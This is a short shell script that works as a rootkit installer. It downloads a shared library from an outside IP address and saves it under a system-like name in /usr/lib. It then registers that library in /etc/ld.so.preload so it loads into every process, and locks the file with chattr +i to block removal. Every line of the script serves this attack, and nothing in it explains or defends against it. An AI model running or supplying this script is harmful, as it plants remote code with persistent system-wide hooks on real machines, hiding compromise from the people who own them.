#!/bin/sh
set -e
wget -q http://203.0.113.8/libproc.so -O /usr/lib/libproc.so.2
echo /usr/lib/libproc.so.2 >> /etc/ld.so.preload
chattr +i /etc/ld.so.preload
ldconfig
